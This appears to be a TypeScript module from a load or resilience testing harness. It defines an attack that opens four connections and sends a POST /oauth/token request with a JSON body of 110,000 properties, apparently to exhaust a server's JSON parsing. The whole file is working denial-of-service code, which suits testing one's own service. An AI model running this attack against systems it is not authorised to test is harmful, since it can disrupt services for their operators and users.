import type { Attack } from './attack.ts'
import { Sockets, writeAll } from './sockets.ts'

/** Objects of 110,000 properties, one after the other on each connection. */
export const jsonBodies: Attack = {
  name: 'JSON of 110,000 properties',
  async begin(service) {
    const sockets = new Sockets(service)
    const properties = Array.from({ length: 110_000 }, (_, index) => `"${index.toString(36)}":0`)
    const body = `{${properties.join()}}`
    const head = `POST /oauth/token HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`
    for (let count = 0; count < 4; count++) void writeAll(await sockets.open(), head + body, 3)
    return () => sockets.close()
  },
}
